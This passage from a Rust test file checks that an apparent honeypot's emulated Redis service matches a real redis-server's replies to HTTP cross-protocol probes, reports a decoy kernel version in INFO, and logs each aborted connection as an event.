            .unwrap()
            .port();
        let child = tokio::process::Command::new(BIN)
            .args(["--port", &port.to_string(), "--bind", "127.0.0.1"])
            .args(["--save", "", "--appendonly", "no", "--daemonize", "no"])
            .arg("--dir")
            .arg(dir.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .expect("spawn redis-server");
        let addr: std::net::SocketAddr = ([127, 0, 0, 1], port).into();
        // Ready when it answers PING; bounded in tries and in time.
        let deadline = tokio::time::Instant::now() + WAIT;
        for _ in 0..600 {
            if let Ok(mut c) = TcpStream::connect(addr).await {
                let _ = c.write_all(b"PING\r\n").await;
                let mut b = [0u8; 7];
                if let Ok(Ok(_)) =
                    tokio::time::timeout(Duration::from_secs(2), c.read_exact(&mut b)).await
                    && &b == b"+PONG\r\n"
                {
                    return RealRedis {
                        child,
                        addr,
                        _dir: dir,
                    };
                }
            }
            assert!(
                tokio::time::Instant::now() < deadline,
                "redis-server did not come up"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("redis-server did not come up");
    }

    async fn stop(mut self) {
        // Its own child, by PID (the handle), never by name.
        let _ = self.child.start_kill();
        let _ = tokio::time::timeout(WAIT, self.child.wait()).await;
    }
}

/// Sends `first`, and once the reply to it is in (when `split`), `rest`; returns every
/// byte received until the server closes (a server that never closes fails the test).
async fn probe(addr: std::net::SocketAddr, first: &[u8], rest: &[u8], split: bool) -> Vec<u8> {
    let mut c = TcpStream::connect(addr).await.unwrap();
    let mut out = Vec::new();
    if split {
        c.write_all(first).await.unwrap();
        let mut b = [0u8; 512];
        // Bounded: one reply line, read within the deadline.
        while !out.ends_with(b"\r\n") {
            let n = tokio::time::timeout(WAIT, c.read(&mut b))
                .await
                .expect("a reply to the first line")
                .unwrap();
            assert!(n > 0 && out.len() < 4096, "closed early: {out:?}");
            out.extend_from_slice(&b[..n]);
        }
        c.write_all(rest).await.unwrap();
    } else {
        c.write_all(&[first, rest].concat()).await.unwrap();
    }
    tokio::time::timeout(WAIT, c.read_to_end(&mut out))
        .await
        .expect("server closes the connection")
        .unwrap();
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_probes_get_the_real_redis_silent_close_and_info_os_is_the_shells_kernel() {
    let real = RealRedis::start().await;
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    // (first part, rest, rest sent only after the first part's reply)
    let probes: [(&[u8], &[u8], bool); 5] = [
        (b"GET / HTTP/1.1\r\n", b"Host: x\r\n\r\n", false),
        (
            b"POST / HTTP/1.1\r\n",
            b"Host: x\r\nContent-Type: text/plain\r\nContent-Length: 4\r\n\r\nPING",
            false,
        ),
        // The request line answered before `Host:` arrives: that reply was written.
        (b"GET / HTTP/1.1\r\n", b"Host: x\r\n\r\n", true),
        // A queued reply to a real command is lost with the connection too.
        (b"PING\r\n", b"Host: x\r\n", false),
        (b"*1\r\n$4\r\nPOST\r\n", b"", false),
    ];
    for (first, rest, split) in probes {
        let want = probe(real.addr, first, rest, split).await;
        let got = probe(r.addr, first, rest, split).await;
        assert_eq!(
            String::from_utf8_lossy(&got),
            String::from_utf8_lossy(&want),
            "probe {:?} then {:?} (split: {split})",
            String::from_utf8_lossy(first),
            String::from_utf8_lossy(rest)
        );
    }
    // INFO over raw RESP, on the real server only to show the field is there.
    let info_os = |addr| async move {
        let mut c = TcpStream::connect(addr).await.unwrap();
        c.write_all(b"INFO server\r\nQUIT\r\n").await.unwrap();
        let mut out = Vec::new();
        tokio::time::timeout(WAIT, c.read_to_end(&mut out))
            .await
            .expect("QUIT closes")
            .unwrap();
        String::from_utf8_lossy(&out)
            .split("\r\n")
            .find_map(|l| l.strip_prefix("os:").map(str::to_owned))
            .unwrap_or_else(|| panic!("no os: line in {out:?}"))
    };
    assert!(info_os(real.addr).await.starts_with("Linux "));
    // The kernel the node's shell claims (`uname -r`, services_shell.rs's UNAME), not the
    // sensor host's own.
    let os = info_os(r.addr).await;
    assert!(
        os.starts_with("Linux 6.1.0-") && os.ends_with("-amd64 x86_64"),
        "{os}"
    );
    real.stop().await;

    r.wait_disconnects(probes.len() + 1).await;
    let aborted = r
        .events
        .iter()
        .filter(|e| {
            matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == "redis_cross_protocol")
        })
        .count();
    assert_eq!(aborted, probes.len(), "{:#?}", r.events);
    let cmds = r.commands();
    for line in ["GET / HTTP/1.1", "Host: x", "POST"] {
        assert!(cmds.iter().any(|c| c == line), "{line:?} not in {cmds:?}");
    }
    r.mgr.shutdown().await;
}
